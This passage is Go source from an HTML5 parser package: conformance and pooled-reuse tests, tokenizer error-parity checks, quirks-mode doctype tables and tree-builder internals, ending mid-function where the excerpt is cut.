func TestTokenStreamHazard(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"<p>plain<b>doc</b></p>", false},
		{"<svg><rect/></svg><title>x</title>", false},
		// A suppressor alone, with no feedback tag in sight, is exact.
		{"<select><option>a</select>", false},
		// Suppressor and feedback tag on the same page: approximate.
		{"<select><option>a</select><title>x</title>", true},
		// Stray end tag the real parser resolves through scope rules.
		{"<p><svg></p><style>x</style>", true},
		// HTML island under an integration point.
		{"<svg><foreignObject><div></div></foreignObject>", true},
	} {
		ts, err := NewTokenStream([]byte(tc.in))
		if err != nil {
			t.Fatal(err)
		}
		for ts.Next().Type != EOFToken {
		}
		got := ts.Hazard()
		ts.Close()
		if got != tc.want {
			t.Errorf("Hazard(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// TestTokenStreamErrorsMatchTree pins the error contract the streaming
// rules rely on: for tokenizer-stage codes, the stream reports exactly
// the errors a full parse reports, in the same order.
func TestTokenStreamErrorsMatchTree(t *testing.T) {
	in := "<img//src=x/onerror=y><p id=a id=a><a href='u'target=w>"
	res, err := ParseReuse([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	ts, err := NewTokenStream([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	defer ts.Close()
	for ts.Next().Type != EOFToken {
	}
	pick := func(errs []ParseError) []ParseError {
		var out []ParseError
		for _, e := range errs {
			if !e.Code.TreeStage() {
				out = append(out, e)
			}
		}
		return out
	}
	treeErrs, streamErrs := pick(res.Errors), pick(ts.Errors())
	if !reflect.DeepEqual(treeErrs, streamErrs) {
		t.Errorf("tokenizer-stage errors diverge:\n tree   %v\n stream %v", treeErrs, streamErrs)
	}
}
