package htmlparse

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Conformance tests in the html5lib-tests tree-construction format:
//
//	#data
//	<input markup>
//	#errors
//	(ignored; this project tracks errors by spec name, not count)
//	#document-fragment   (optional; context element for fragment cases)
//	div
//	#document
//	| <html>
//	|   <head>
//	...
//
// The cases live under testdata/tree-construction/*.dat. They are authored
// for this project (html5lib's own corpus is not vendored), but the format
// compatibility means upstream .dat files drop in unchanged.

type conformanceCase struct {
	file     string
	line     int
	data     string
	fragment string
	document string
	errors   []string
}

func parseDatFile(t *testing.T, path string) []conformanceCase {
	t.Helper()
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var cases []conformanceCase
	lines := strings.Split(string(raw), "\n")
	var cur *conformanceCase
	section := ""
	flush := func() {
		if cur != nil && cur.data != "" {
			cur.data = strings.TrimSuffix(cur.data, "\n")
			cur.document = strings.TrimSuffix(cur.document, "\n")
			cases = append(cases, *cur)
		}
		cur = nil
	}
	for i, line := range lines {
		switch {
		case line == "#data":
			flush()
			cur = &conformanceCase{file: filepath.Base(path), line: i + 1}
			section = "data"
		case line == "#errors":
			section = "errors"
		case line == "#document-fragment":
			section = "fragment"
		case line == "#document":
			section = "document"
		default:
			if cur == nil {
				continue
			}
			switch section {
			case "data":
				cur.data += line + "\n"
			case "errors":
				if strings.TrimSpace(line) != "" {
					cur.errors = append(cur.errors, strings.TrimSpace(line))
				}
			case "fragment":
				if strings.TrimSpace(line) != "" {
					cur.fragment = strings.TrimSpace(line)
				}
			case "document":
				if line != "" {
					cur.document += line + "\n"
				}
			}
		}
	}
	flush()
	return cases
}

func TestTreeConstructionConformance(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("testdata", "tree-construction", "*.dat"))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) == 0 {
		t.Fatal("no conformance data files")
	}
	total := 0
	for _, file := range files {
		cases := parseDatFile(t, file)
		if len(cases) == 0 {
			t.Fatalf("%s: no cases parsed", file)
		}
		total += len(cases)
		for _, tc := range cases {
			name := fmt.Sprintf("%s:%d", tc.file, tc.line)
			t.Run(name, func(t *testing.T) {
				var res *Result
				var err error
				if tc.fragment != "" {
					res, err = ParseFragment([]byte(tc.data), tc.fragment)
				} else {
					res, err = Parse([]byte(tc.data))
				}
				if err != nil {
					t.Fatalf("parse: %v", err)
				}
				got := strings.TrimSpace(dumpTree(res.Doc))
				want := strings.TrimSpace(tc.document)
				if got != want {
					t.Fatalf("input %q\n--- got ---\n%s\n--- want ---\n%s", tc.data, got, want)
				}
				// When the case declares expected error names, every one
				// must have been recorded (extra errors are fine — the
				// html5lib format historically under-counts).
				for _, wantErr := range tc.errors {
					if !res.HasError(ErrorCode(wantErr)) {
						t.Errorf("expected error %q not recorded; got %v", wantErr, res.Errors)
					}
				}
			})
		}
	}
	if total < 40 {
		t.Fatalf("conformance corpus too small: %d cases", total)
	}
}
