package htmlparse

import (
	"sort"
	"strings"
)

// This file holds the conformance hooks of the parser: the tree dump in
// the html5lib-tests dialect and the tokenizer state override the
// html5lib tokenizer test format requires. They are exported because the
// conformance engine (internal/conformance, cmd/hvconform) diffs parser
// output byte-for-byte against checked-in fixtures; keeping the dump
// here, next to the tree builder, means the dialect and the DOM can
// never drift apart silently.

// DumpTree renders the tree rooted at n in the html5lib-tests dump
// dialect:
//
//	| <!DOCTYPE html>
//	| <html>
//	|   <head>
//	|   <body>
//	|     <p>
//	|       class="x"
//	|       "text"
//
// Rules of the dialect: every line starts with "| " plus two spaces per
// depth level; attributes print one per line, sorted by name, below
// their element; text prints raw (unescaped) between double quotes;
// foreign elements carry an "svg " or "math " namespace prefix; a
// doctype with a public or system identifier prints both in quotes.
// Document and fragment roots render as the concatenation of their
// children. The output of DumpTree is what .dat conformance fixtures
// must match byte-for-byte (after trailing-whitespace trimming).
func DumpTree(n *Node) string {
	var b strings.Builder
	var walk func(n *Node, depth int)
	walk = func(n *Node, depth int) {
		indent := "| " + strings.Repeat("  ", depth)
		switch n.Type {
		case ElementNode:
			name := n.Data
			if n.Namespace != NamespaceHTML {
				name = n.Namespace.String() + " " + name
			}
			b.WriteString(indent + "<" + name + ">\n")
			attrs := make([]Attribute, 0, len(n.Attr))
			for _, a := range n.Attr {
				if !a.Duplicate {
					attrs = append(attrs, a)
				}
			}
			sort.SliceStable(attrs, func(i, j int) bool { return attrs[i].Name < attrs[j].Name })
			for _, a := range attrs {
				b.WriteString(indent + "  " + a.Name + `="` + a.Value + `"` + "\n")
			}
		case TextNode:
			b.WriteString(indent + `"` + n.Data + `"` + "\n")
		case CommentNode:
			b.WriteString(indent + "<!-- " + n.Data + " -->\n")
		case DoctypeNode:
			b.WriteString(indent + "<!DOCTYPE " + n.Data)
			if n.PublicID != "" || n.SystemID != "" {
				b.WriteString(` "` + n.PublicID + `" "` + n.SystemID + `"`)
			}
			b.WriteString(">\n")
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, depth+1)
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		walk(c, 0)
	}
	return b.String()
}

// testStates maps the html5lib tokenizer-test "initialStates" names onto
// tokenizer states. Only states a test harness can meaningfully start in
// appear here; the remaining states are interior and reached through
// input alone.
var testStates = map[string]state{
	"Data state":          stateData,
	"PLAINTEXT state":     statePlaintext,
	"RCDATA state":        stateRCDATA,
	"RAWTEXT state":       stateRAWTEXT,
	"Script data state":   stateScriptData,
	"CDATA section state": stateCDATASection,
}

// SetTestState forces the tokenizer into one of the initial states the
// html5lib tokenizer test format names ("Data state", "RCDATA state",
// "RAWTEXT state", "Script data state", "PLAINTEXT state", "CDATA
// section state") and installs lastStartTag as the "appropriate end
// tag" reference. It reports whether the name was recognized. Call it
// before the first Next.
func (z *Tokenizer) SetTestState(name, lastStartTag string) bool {
	s, ok := testStates[name]
	if !ok {
		return false
	}
	z.state = s
	if lastStartTag != "" {
		z.lastStartTag = lastStartTag
	}
	return true
}

// treeStageCodes is the set of tree-construction-stage error codes (the
// second const block in errors.go). Everything else is emitted by the
// preprocessor or the tokenizer.
var treeStageCodes = map[ErrorCode]bool{
	ErrUnexpectedTokenInInitialMode:      true,
	ErrUnexpectedDoctype:                 true,
	ErrUnexpectedStartTag:                true,
	ErrUnexpectedEndTag:                  true,
	ErrUnexpectedTextInTable:             true,
	ErrUnexpectedEOFInElement:            true,
	ErrNestedFormElement:                 true,
	ErrSecondBodyStartTag:                true,
	ErrFosterParenting:                   true,
	ErrForeignContentBreakout:            true,
	ErrNonVoidElementWithTrailingSolidus: true,
	ErrHTMLIntegrationMisnesting:         true,
	ErrAdoptionAgencyMisnesting:          true,
}

// TreeStage reports whether the code is emitted by the tree construction
// stage. Tokenizer- and preprocessor-stage codes (TreeStage() == false)
// are position-local: they depend only on a bounded window of input
// around their offset, which is the property the truncation metamorphic
// invariant in internal/conformance relies on.
func (c ErrorCode) TreeStage() bool { return treeStageCodes[c] }
