package htmlparse

import "strings"

// Quirks-mode determination (spec 13.2.6.4.1, "the initial insertion
// mode"). The mode matters to the tree builder in exactly one place the
// violation rules care about: in quirks mode a <table> start tag does NOT
// close an open <p> element, which changes where foster-parented content
// lands on ancient pages.

// QuirksMode classifies the document per the doctype rules.
type QuirksMode int

const (
	// NoQuirks is the standards mode (<!DOCTYPE html>).
	NoQuirks QuirksMode = iota
	// Quirks is full quirks mode (missing or ancient doctype).
	Quirks
	// LimitedQuirks is the in-between mode (certain transitional
	// doctypes); it parses like NoQuirks.
	LimitedQuirks
)

func (m QuirksMode) String() string {
	switch m {
	case Quirks:
		return "quirks"
	case LimitedQuirks:
		return "limited-quirks"
	}
	return "no-quirks"
}

// quirksPublicIDPrefixes force full quirks mode when the public identifier
// starts with any of them (the spec's list, case-insensitive).
var quirksPublicIDPrefixes = []string{
	"+//silmaril//dtd html pro v0r11 19970101//",
	"-//as//dtd html 3.0 aswedit + extensions//",
	"-//advasoft ltd//dtd html 3.0 aswedit + extensions//",
	"-//ietf//dtd html 2.0 level 1//",
	"-//ietf//dtd html 2.0 level 2//",
	"-//ietf//dtd html 2.0 strict level 1//",
	"-//ietf//dtd html 2.0 strict level 2//",
	"-//ietf//dtd html 2.0 strict//",
	"-//ietf//dtd html 2.0//",
	"-//ietf//dtd html 2.1e//",
	"-//ietf//dtd html 3.0//",
	"-//ietf//dtd html 3.2 final//",
	"-//ietf//dtd html 3.2//",
	"-//ietf//dtd html 3//",
	"-//ietf//dtd html level 0//",
	"-//ietf//dtd html level 1//",
	"-//ietf//dtd html level 2//",
	"-//ietf//dtd html level 3//",
	"-//ietf//dtd html strict level 0//",
	"-//ietf//dtd html strict level 1//",
	"-//ietf//dtd html strict level 2//",
	"-//ietf//dtd html strict level 3//",
	"-//ietf//dtd html strict//",
	"-//ietf//dtd html//",
	"-//metrius//dtd metrius presentational//",
	"-//microsoft//dtd internet explorer 2.0 html strict//",
	"-//microsoft//dtd internet explorer 2.0 html//",
	"-//microsoft//dtd internet explorer 2.0 tables//",
	"-//microsoft//dtd internet explorer 3.0 html strict//",
	"-//microsoft//dtd internet explorer 3.0 html//",
	"-//microsoft//dtd internet explorer 3.0 tables//",
	"-//netscape comm. corp.//dtd html//",
	"-//netscape comm. corp.//dtd strict html//",
	"-//o'reilly and associates//dtd html 2.0//",
	"-//o'reilly and associates//dtd html extended 1.0//",
	"-//o'reilly and associates//dtd html extended relaxed 1.0//",
	"-//sq//dtd html 2.0 hotmetal + extensions//",
	"-//softquad software//dtd hotmetal pro 6.0::19990601::extensions to html 4.0//",
	"-//softquad//dtd hotmetal pro 4.0::19971010::extensions to html 4.0//",
	"-//spyglass//dtd html 2.0 extended//",
	"-//sun microsystems corp.//dtd hotjava html//",
	"-//sun microsystems corp.//dtd hotjava strict html//",
	"-//w3c//dtd html 3 1995-03-24//",
	"-//w3c//dtd html 3.2 draft//",
	"-//w3c//dtd html 3.2 final//",
	"-//w3c//dtd html 3.2//",
	"-//w3c//dtd html 3.2s draft//",
	"-//w3c//dtd html 4.0 frameset//",
	"-//w3c//dtd html 4.0 transitional//",
	"-//w3c//dtd html experimental 19960712//",
	"-//w3c//dtd html experimental 970421//",
	"-//w3c//dtd w3 html//",
	"-//w3o//dtd w3 html 3.0//",
	"-//webtechs//dtd mozilla html 2.0//",
	"-//webtechs//dtd mozilla html//",
}

// quirksPublicIDs force quirks mode on exact match.
var quirksPublicIDs = map[string]bool{
	"-//w3o//dtd w3 html strict 3.0//en//": true,
	"-/w3c/dtd html 4.0 transitional/en":   true,
	"html":                                 true,
}

// limitedQuirksPublicIDPrefixes force limited-quirks mode.
var limitedQuirksPublicIDPrefixes = []string{
	"-//w3c//dtd xhtml 1.0 frameset//",
	"-//w3c//dtd xhtml 1.0 transitional//",
}

// quirksIfNoSystemIDPrefixes force quirks (or limited-quirks when a system
// ID is present) for the HTML 4.01 transitional/frameset doctypes.
var quirksIfNoSystemIDPrefixes = []string{
	"-//w3c//dtd html 4.01 frameset//",
	"-//w3c//dtd html 4.01 transitional//",
}

// quirksModeOf classifies a doctype token.
func quirksModeOf(t *Token) QuirksMode {
	if t.ForceQuirks || !strings.EqualFold(t.Data, "html") {
		return Quirks
	}
	public := strings.ToLower(t.PublicID)
	system := strings.ToLower(t.SystemID)
	if system == "http://www.ibm.com/data/dtd/v11/ibmxhtml1-transitional.dtd" {
		return Quirks
	}
	if quirksPublicIDs[public] {
		return Quirks
	}
	for _, p := range quirksPublicIDPrefixes {
		if strings.HasPrefix(public, p) {
			return Quirks
		}
	}
	for _, p := range quirksIfNoSystemIDPrefixes {
		if strings.HasPrefix(public, p) {
			if t.SystemID == "" {
				return Quirks
			}
			return LimitedQuirks
		}
	}
	for _, p := range limitedQuirksPublicIDPrefixes {
		if strings.HasPrefix(public, p) {
			return LimitedQuirks
		}
	}
	return NoQuirks
}
