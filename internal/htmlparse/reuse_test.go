package htmlparse

import (
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"
)

// reuseInputs are documents that exercise the scratch state the pool
// recycles: attribute buffers, the text span, the adoption agency, foster
// parenting, raw text modes, doctypes and comments.
var reuseInputs = []string{
	"",
	"plain text only",
	"<!DOCTYPE html><html><head><title>t&amp;t</title></head><body class=\"a b\" id='x'>hi</body></html>",
	"<p><b>1<i>2</b>3</i>4",
	"<table><tr><td>a<div>foster</table>",
	"<script>var a = '<div>' + \"</scr\" + \"ipt>\";</script>",
	"<div CLASS=UPPER dup=1 dup=2 novalue>text &notareal; &#x41;&#0;</div>",
	"<!-- comment --!><![CDATA[x]]><?bogus?>",
	"<svg><foreignObject><p>html island</p></foreignObject><rect/></svg>",
	"<textarea>\n&lt;kept&gt;</textarea><plaintext>rest</wont-close>",
}

func resultFingerprint(t *testing.T, r *Result) string {
	t.Helper()
	s := DumpTree(r.Doc)
	s += fmt.Sprintf("|quirks=%v|mode=%v|tokens=%d|events=%d", r.Quirks, r.Mode, len(r.Tokens), len(r.Events))
	for _, e := range r.Errors {
		s += fmt.Sprintf("|%s@%d:%d", e.Code, e.Pos.Line, e.Pos.Col)
	}
	for _, ev := range r.Events {
		s += fmt.Sprintf("|%d:%s", ev.Kind, ev.Detail)
	}
	return s
}

// TestParseReuseMatchesParse drives the same inputs through a fresh parser
// and the pooled path, interleaved so the pooled parser's scratch is dirty
// with the previous document each time, and requires identical results.
func TestParseReuseMatchesParse(t *testing.T) {
	inputs := append([]string(nil), reuseInputs...)
	for _, name := range benchPages {
		data, err := os.ReadFile(filepath.Join("testdata", "bench", name+".html"))
		if err != nil {
			t.Fatal(err)
		}
		inputs = append(inputs, string(data))
	}
	for round := 0; round < 3; round++ {
		for i, in := range inputs {
			fresh, err := Parse([]byte(in))
			if err != nil {
				t.Fatalf("round %d input %d: Parse: %v", round, i, err)
			}
			reused, err := ParseReuse([]byte(in))
			if err != nil {
				t.Fatalf("round %d input %d: ParseReuse: %v", round, i, err)
			}
			if want, got := resultFingerprint(t, fresh), resultFingerprint(t, reused); want != got {
				t.Fatalf("round %d input %d: ParseReuse diverges from Parse\n--- fresh ---\n%s\n--- reused ---\n%s", round, i, want, got)
			}
		}
	}
}

// TestParseFragmentReuseMatchesParseFragment mirrors the document test for
// the fragment entry point across context elements with distinct insertion
// modes and content models.
func TestParseFragmentReuseMatchesParseFragment(t *testing.T) {
	cases := []struct{ context, input string }{
		{"div", "<p>a<b>b"},
		{"table", "<tr><td>x</td></tr>"},
		{"select", "<option>a<option>b"},
		{"title", "raw &amp; text</title>"},
		{"script", "if (a < b) {}"},
		{"form", "<input name=q>"},
	}
	for round := 0; round < 2; round++ {
		for _, c := range cases {
			fresh, err := ParseFragment([]byte(c.input), c.context)
			if err != nil {
				t.Fatalf("ParseFragment(%q): %v", c.context, err)
			}
			reused, err := ParseFragmentReuse([]byte(c.input), c.context)
			if err != nil {
				t.Fatalf("ParseFragmentReuse(%q): %v", c.context, err)
			}
			if want, got := resultFingerprint(t, fresh), resultFingerprint(t, reused); want != got {
				t.Fatalf("context %q: fragment reuse diverges\n--- fresh ---\n%s\n--- reused ---\n%s", c.context, want, got)
			}
		}
	}
}

// TestParseReuseParallel hammers the pool from many goroutines while each
// goroutine keeps validating documents it parsed earlier, so the race
// detector can see any scratch state leaking between pooled parses and any
// Result invalidated by a later reset.
func TestParseReuseParallel(t *testing.T) {
	want := make([]string, len(reuseInputs))
	for i, in := range reuseInputs {
		r, err := Parse([]byte(in))
		if err != nil {
			t.Fatal(err)
		}
		want[i] = resultFingerprint(t, r)
	}
	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			held := make([]*Result, len(reuseInputs))
			for iter := 0; iter < 50; iter++ {
				i := (g + iter) % len(reuseInputs)
				r, err := ParseReuse([]byte(reuseInputs[i]))
				if err != nil {
					errs <- err
					return
				}
				held[i] = r
				// Re-check a document parsed on an earlier iteration: its
				// nodes and strings must be untouched by later pool reuse.
				j := (i + 3) % len(reuseInputs)
				if held[j] != nil {
					if got := DumpTree(held[j].Doc); got != DumpTree(held[j].Doc) || len(got) > 1<<30 {
						errs <- fmt.Errorf("unstable dump")
						return
					}
				}
			}
			for i, r := range held {
				if r == nil {
					continue
				}
				got := resultFingerprint(t, r)
				if got != want[i] {
					errs <- fmt.Errorf("goroutine %d: held result %d mutated after pool reuse\n--- want ---\n%s\n--- got ---\n%s", g, i, want[i], got)
					return
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
}
