package htmlparse

// This file holds the tree construction stage's infrastructure: the stack
// of open elements, the list of active formatting elements, insertion
// locations (including foster parenting), and scope queries. The insertion
// mode handlers live in modes.go, foreign-content rules in foreign.go and
// the adoption agency algorithm in adoption.go.

import (
	"bytes"
	"unicode/utf8"
)

type insertionMode int

const (
	modeInitial insertionMode = iota
	modeBeforeHTML
	modeBeforeHead
	modeInHead
	modeAfterHead
	modeInBody
	modeText
	modeInTable
	modeInTableText
	modeInCaption
	modeInColumnGroup
	modeInTableBody
	modeInRow
	modeInCell
	modeInSelect
	modeInSelectInTable
	modeAfterBody
	modeInFrameset
	modeAfterFrameset
	modeAfterAfterBody
	modeAfterAfterFrameset
)

// afeEntry is one entry in the list of active formatting elements. A nil
// node denotes a marker.
type afeEntry struct {
	node  *Node
	token Token
}

// treeBuilder implements the tree construction stage (spec 13.2.6). Like
// the tokenizer it never fails: every deviation is recorded as a
// ParseError and/or TreeEvent and repaired.
type treeBuilder struct {
	z     *Tokenizer
	doc   *Node
	arena nodeArena

	stack []*Node
	afe   []afeEntry

	head *Node
	form *Node

	mode         insertionMode
	originalMode insertionMode

	fosterParenting bool
	framesetOK      bool
	// selfClosingAcked tracks the spec's "acknowledge the token's
	// self-closing flag" instruction: void-element and foreign-content
	// handlers set it; a self-closing start tag that finishes processing
	// without acknowledgment is the non-void-html-element-start-tag-
	// with-trailing-solidus parse error.
	selfClosingAcked bool
	quirks           bool
	quirksMode       QuirksMode
	stopped          bool

	pendingTableText []Token
	tableTextPos     Position

	skipLeadingNewline bool

	errors []ParseError
	events []TreeEvent

	recordTokens bool
	tokens       []Token

	// fragment, when non-nil, is the context element of the HTML fragment
	// parsing algorithm; it stands in for the root as the adjusted current
	// node.
	fragment *Node

	// scriptingEnabled mirrors a browser profile with JavaScript on, which
	// decides how <noscript> parses. Browsers (and therefore the paper's
	// threat model) have scripting on.
	scriptingEnabled bool

	// cancel, when non-nil, is polled every cancelStride tokens; a
	// non-nil return aborts the parse (abort records the cause). An
	// online service sets it to ctx.Err so a hostile document cannot
	// hold a worker past its request deadline.
	cancel     func() error
	cancelTick int
	// maxDepth, when positive, aborts the parse as soon as the
	// open-element stack exceeds it — the guard against adversarial
	// deeply-nested documents whose stack (and recursion in consumers
	// walking the tree) would otherwise grow with the input.
	maxDepth int
	// abort is the reason run() stopped early; nil for a completed
	// parse. When set, the partial tree must not be assembled.
	abort error
}

func newTreeBuilder(z *Tokenizer) *treeBuilder {
	tb := &treeBuilder{
		z:                z,
		mode:             modeInitial,
		framesetOK:       true,
		scriptingEnabled: true,
	}
	tb.doc = tb.newNode()
	tb.doc.Type = DocumentNode
	z.AutoRaw = false
	z.AllowCDATA = func() bool {
		n := tb.currentNode()
		return n != nil && n.Namespace != NamespaceHTML
	}
	return tb
}

// ackSelfClosing implements "acknowledge the token's self-closing flag".
// Called by every handler the spec marks as acknowledging: void-element
// insertions and self-closing foreign elements.
func (tb *treeBuilder) ackSelfClosing() { tb.selfClosingAcked = true }

func (tb *treeBuilder) parseError(code ErrorCode, detail string, pos Position) {
	tb.errors = append(tb.errors, ParseError{Code: code, Pos: pos, Detail: detail})
}

// nulPos locates the first literal NUL byte at or after the text token's
// start and returns its position, for the tree-stage
// unexpected-null-character error. The token's own Pos is the start of
// the whole text run, which can lie arbitrarily far before the NUL;
// reporting the error there made its offset depend on how much text
// precedes the NUL in the same run, which broke the truncation-stability
// invariant (an error about byte N must not move below the stability
// horizon just because the run started early). A NUL in token data is
// always a literal NUL byte in the input: the null character reference
// decodes to U+FFFD, never to NUL.
func (tb *treeBuilder) nulPos(t *Token) Position {
	in := tb.z.input
	if t.Pos.Offset < 0 || t.Pos.Offset >= len(in) {
		return t.Pos
	}
	i := bytes.IndexByte(in[t.Pos.Offset:], 0)
	if i < 0 {
		return t.Pos
	}
	seg := in[t.Pos.Offset : t.Pos.Offset+i]
	pos := Position{Offset: t.Pos.Offset + i, Line: t.Pos.Line, Col: t.Pos.Col}
	if nl := bytes.Count(seg, nlSlice); nl > 0 {
		pos.Line += nl
		pos.Col = 1 + utf8.RuneCount(seg[bytes.LastIndexByte(seg, '\n')+1:])
	} else {
		pos.Col += utf8.RuneCount(seg)
	}
	return pos
}

func (tb *treeBuilder) event(kind EventKind, detail string, ns Namespace, pos Position) {
	tb.events = append(tb.events, TreeEvent{Kind: kind, Detail: detail, Namespace: ns, Pos: pos})
}

// eventAttrs records an event together with the triggering token's
// attributes (used by the metadata events that DM1/DM2 consume).
func (tb *treeBuilder) eventAttrs(kind EventKind, detail string, pos Position, attr []Attribute) {
	tb.events = append(tb.events, TreeEvent{Kind: kind, Detail: detail, Namespace: NamespaceHTML, Pos: pos, Attr: attr})
}

func (tb *treeBuilder) currentNode() *Node {
	if len(tb.stack) == 0 {
		return nil
	}
	return tb.stack[len(tb.stack)-1]
}

// adjustedCurrentNode equals the current node in document parsing; in
// fragment parsing the context element stands in while only the root is on
// the stack.
func (tb *treeBuilder) adjustedCurrentNode() *Node {
	if tb.fragment != nil && len(tb.stack) == 1 {
		return tb.fragment
	}
	return tb.currentNode()
}

func (tb *treeBuilder) push(n *Node) { tb.stack = append(tb.stack, n) }
func (tb *treeBuilder) pop() *Node {
	n := tb.stack[len(tb.stack)-1]
	tb.stack = tb.stack[:len(tb.stack)-1]
	return n
}

// popUntil pops elements until an HTML element with one of the given tags
// has been popped. It returns the popped element, or nil if the stack
// emptied (which the callers' scope checks prevent).
func (tb *treeBuilder) popUntil(tags ...string) *Node {
	for len(tb.stack) > 0 {
		n := tb.pop()
		if n.Namespace == NamespaceHTML {
			for _, t := range tags {
				if n.Data == t {
					return n
				}
			}
		}
	}
	return nil
}

func (tb *treeBuilder) removeFromStack(n *Node) {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		if tb.stack[i] == n {
			tb.stack = append(tb.stack[:i], tb.stack[i+1:]...)
			return
		}
	}
}

func (tb *treeBuilder) indexOnStack(n *Node) int {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		if tb.stack[i] == n {
			return i
		}
	}
	return -1
}

// elementInScope implements the "has an element in scope" family. extra
// widens the stop set (list-item scope, button scope); nil means the
// default scope.
func (tb *treeBuilder) elementInScope(extra map[string]bool, tags ...string) bool {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		n := tb.stack[i]
		if n.Namespace == NamespaceHTML {
			for _, t := range tags {
				if n.Data == t {
					return true
				}
			}
			if defaultScopeStop[n.Data] || (extra != nil && extra[n.Data]) {
				return false
			}
		} else {
			// Foreign scope stops: MathML text integration points and SVG
			// HTML integration points.
			if isMathMLTextIntegrationPoint(n) || isHTMLIntegrationPoint(n) {
				return false
			}
		}
	}
	return false
}

func (tb *treeBuilder) elementInTableScope(tags ...string) bool {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		n := tb.stack[i]
		if n.Namespace != NamespaceHTML {
			continue
		}
		for _, t := range tags {
			if n.Data == t {
				return true
			}
		}
		if tableScopeStop[n.Data] {
			return false
		}
	}
	return false
}

func (tb *treeBuilder) elementInSelectScope(tag string) bool {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		n := tb.stack[i]
		if n.Namespace != NamespaceHTML {
			return false
		}
		if n.Data == tag {
			return true
		}
		if n.Data != "optgroup" && n.Data != "option" {
			return false
		}
	}
	return false
}

func isMathMLTextIntegrationPoint(n *Node) bool {
	return n.Namespace == NamespaceMathML && mathMLTextIntegration[n.Data]
}

func isHTMLIntegrationPoint(n *Node) bool {
	if n.Namespace == NamespaceSVG && svgHTMLIntegration[n.Data] {
		return true
	}
	if n.Namespace == NamespaceMathML && n.Data == "annotation-xml" {
		if enc, ok := n.LookupAttr("encoding"); ok {
			switch asciiLower(enc) {
			case "text/html", "application/xhtml+xml":
				return true
			}
		}
	}
	return false
}

func asciiLower(s string) string {
	b := []byte(s)
	changed := false
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 0x20
			changed = true
		}
	}
	if !changed {
		return s
	}
	return string(b)
}

// insertionLocation returns the parent node and the child to insert before
// (nil = append), applying the foster parenting rules when enabled and the
// current node is table-ish (spec "appropriate place for inserting a node").
func (tb *treeBuilder) insertionLocation() (parent, before *Node) {
	target := tb.currentNode()
	if target == nil {
		return tb.doc, nil
	}
	if tb.fosterParenting {
		switch target.Data {
		case "table", "tbody", "tfoot", "thead", "tr":
			if target.Namespace == NamespaceHTML {
				// Find the last table on the stack.
				for i := len(tb.stack) - 1; i >= 0; i-- {
					if tb.stack[i].IsElement("table") {
						table := tb.stack[i]
						if table.Parent != nil {
							return table.Parent, table
						}
						return tb.stack[i-1], nil
					}
				}
				return tb.stack[0], nil
			}
		}
	}
	return target, nil
}

// insertNode places n at the appropriate insertion location.
func (tb *treeBuilder) insertNode(n *Node) {
	parent, before := tb.insertionLocation()
	if before != nil {
		parent.InsertBefore(n, before)
		n.FosterParented = true
	} else {
		parent.AppendChild(n)
	}
}

// insertElement creates an element node for the token and pushes it.
func (tb *treeBuilder) insertElement(t Token, ns Namespace) *Node {
	n := tb.createElement(t, ns)
	tb.insertNode(n)
	tb.push(n)
	return n
}

// newNode allocates a zeroed Node from the per-parse arena. Every node
// reachable from the finished document must come from here so that node
// lifetimes stay tied to the arena slabs the document owns.
func (tb *treeBuilder) newNode() *Node { return tb.arena.new() }

// cloneNode is the adoption agency's shallow copy (attributes copied, no
// children/links), allocated from the arena like every other node.
func (tb *treeBuilder) cloneNode(n *Node) *Node {
	c := tb.newNode()
	*c = Node{Type: n.Type, Data: n.Data, Namespace: n.Namespace, Pos: n.Pos}
	c.Attr = append([]Attribute(nil), n.Attr...)
	return c
}

func (tb *treeBuilder) createElement(t Token, ns Namespace) *Node {
	n := tb.newNode()
	*n = Node{Type: ElementNode, Data: t.Data, Namespace: ns, Pos: t.Pos}
	dup := false
	for _, a := range t.Attr {
		if a.Duplicate {
			dup = true
			break
		}
	}
	if !dup {
		// The common case: adopt the token's attribute slice wholesale
		// instead of copying it (the token is emitted once and the slice is
		// never rebuilt, so sharing the backing array is safe).
		n.Attr = t.Attr
		return n
	}
	for _, a := range t.Attr {
		if !a.Duplicate {
			n.Attr = append(n.Attr, a)
		}
	}
	return n
}

// insertImplied synthesizes an element with no corresponding start tag.
func (tb *treeBuilder) insertImplied(tag string, pos Position) *Node {
	n := tb.newNode()
	*n = Node{Type: ElementNode, Data: tag, Namespace: NamespaceHTML, Implied: true, Pos: pos}
	tb.insertNode(n)
	tb.push(n)
	return n
}

// insertText inserts character data at the appropriate place, merging with
// an adjacent text node as the spec requires.
func (tb *treeBuilder) insertText(data string, pos Position) {
	if data == "" {
		return
	}
	parent, before := tb.insertionLocation()
	var prev *Node
	if before != nil {
		prev = before.PrevSibling
	} else {
		prev = parent.LastChild
	}
	if prev != nil && prev.Type == TextNode {
		prev.Data += data
		return
	}
	n := tb.newNode()
	*n = Node{Type: TextNode, Data: data, Pos: pos}
	if before != nil {
		parent.InsertBefore(n, before)
		n.FosterParented = true
	} else {
		parent.AppendChild(n)
	}
}

// insertComment appends a comment node to the given parent (or the
// appropriate place when parent is nil).
func (tb *treeBuilder) insertComment(t Token, parent *Node) {
	n := tb.newNode()
	*n = Node{Type: CommentNode, Data: t.Data, Pos: t.Pos}
	if parent != nil {
		parent.AppendChild(n)
		return
	}
	tb.insertNode(n)
}

// generateImpliedEndTags pops elements whose end tags the spec implies,
// except the named one (empty string implies none excepted).
func (tb *treeBuilder) generateImpliedEndTags(except string) {
	for {
